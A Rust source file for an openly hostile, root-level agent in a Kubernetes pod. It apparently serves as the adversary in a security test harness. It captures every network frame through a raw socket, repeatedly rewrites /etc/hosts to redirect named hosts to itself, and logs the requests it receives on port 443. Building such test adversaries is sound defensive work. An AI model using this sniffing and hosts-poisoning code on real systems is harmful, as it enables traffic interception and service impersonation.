//! A hostile agent that is root: it reads every packet of its pod, and answers in the name of every host.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::thread;
use std::time::Duration;

use anyhow::Context;
use axum::Router;
use axum::extract::Request;
use clap::Args;
use http::StatusCode;
use rustix::net::{AddressFamily, RecvFlags, SocketType, eth, recv, socket};

/// The hosts file of the pod.
const HOSTS_FILE: &str = "/etc/hosts";

/// How often it looks whether the hosts file is still its own: the kubelet writes it anew with each container.
const GLANCE: Duration = Duration::from_millis(10);

/// A frame of loopback is no longer.
const LARGEST: usize = 1 << 17;

/// Where it writes what it has read, and in whose name it answers.
#[derive(Debug, Args)]
pub(crate) struct AttackerArguments {
    /// An existing directory that receives `packets`, every packet as it was, and `heard`, what came by TLS. While it has a file
    /// `poison`, the hosts file leads to this process.
    #[arg(long)]
    pub directory: PathBuf,

    /// A host in whose name to answer; may be repeated.
    #[arg(long, value_name = "NAME")]
    host: Vec<String>,
}

impl AttackerArguments {
    /// Where it answers.
    pub(crate) fn listen() -> SocketAddr {
        (Ipv4Addr::LOCALHOST, 443).into()
    }

    /// Begins to read and to write, and describes what to serve.
    ///
    /// # Errors
    ///
    /// When it is not root, or a file cannot be written.
    #[expect(clippy::disallowed_methods, reason = "a thread of its own waits")]
    pub(crate) fn start(self) -> anyhow::Result<Router> {
        let packets =
            socket(AddressFamily::PACKET, SocketType::RAW, Some(eth::ALL)).context("cannot read packets; be root")?;
        let mut file = File::create(self.directory.join("packets")).context("cannot write packets")?;
        thread::spawn(move || {
            let mut frame = vec![0; LARGEST];
            while let Ok((length, _)) = recv(&packets, &mut frame[..], RecvFlags::empty()) {
                let written = frame.get(..length).map(|frame| file.write_all(frame));
                if !matches!(written, Some(Ok(()))) {
                    // A reader that has lost something proves nothing.
                    std::process::abort();
                }
            }
        });
        let (poison, line) = (
            self.directory.join("poison"),
            format!("{} {}\n", Ipv4Addr::LOCALHOST, self.host.join(" ")),
        );
        thread::spawn(move || {
            loop {
                if poison.exists() && fs::read_to_string(HOSTS_FILE).is_ok_and(|hosts| hosts != line) {
                    let _ = fs::write(HOSTS_FILE, &line);
                }
                thread::sleep(GLANCE);
            }
        });
        let heard = self.directory.join("heard");
        let answer = move |request: Request| {
            let written = OpenOptions::new().create(true).append(true).open(&heard);
            let written = written.and_then(|mut heard| writeln!(heard, "{request:?}"));
            async move { written.map_or(StatusCode::INTERNAL_SERVER_ERROR, |()| StatusCode::OK) }
        };
        Ok(Router::new().fallback(answer))
    }
}
